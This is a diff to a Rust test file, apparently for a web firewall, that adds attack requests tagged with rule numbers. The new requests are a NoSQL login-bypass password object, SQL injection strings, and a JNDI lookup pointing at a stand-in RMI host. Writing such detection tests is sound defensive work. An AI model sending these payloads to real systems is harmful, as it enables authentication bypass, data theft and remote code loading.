@@ -365,6 +365,22 @@ fn attack_cases() -> Vec<(u32, Req)> {
         ),
         (943120, get("/login?PHPSESSID=abc123")),
         (
+            942290,
+            json(
+                "/users/login",
+                "{\"email\":\"a@shop.example\",\"password\":{\"$ne\":\"\"}}",
+            ),
+        ),
+        (942320, get("/search?q=lo_get(16400)::bytea")),
+        (
+            942170,
+            get("/products?limit=1;select%20if(ascii(1)>64,0,1)"),
+        ),
+        (
+            944150,
+            json("/cart/items", "{\"note\":\"jndi:rmi://x.example:1099/a\"}"),
+        ),
+        (
             943110,
             get("/api/auth/signin?next-auth.session-token=f00dfeed")
                 .header("referer", "https://lookalike.example/login"),
